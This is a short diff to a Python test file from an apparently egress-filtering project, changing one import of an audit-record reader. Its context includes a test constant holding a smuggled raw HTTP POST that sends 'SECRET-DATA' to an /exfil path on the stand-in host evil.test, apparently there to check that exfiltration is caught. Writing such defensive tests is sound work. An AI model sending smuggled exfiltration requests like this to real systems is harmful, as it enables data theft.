@@ -12,7 +12,7 @@ from pathlib import Path
 
 import pytest
 
-from airlock.egress.audit import read_records
+from airlock.egress.audit_read import read_records
 from tests.egress.origin import _Site, config, exchange, running
 
 SMUGGLED = b"POST /exfil HTTP/1.1\r\nHost: evil.test\r\nContent-Length: 11\r\n\r\nSECRET-DATA"
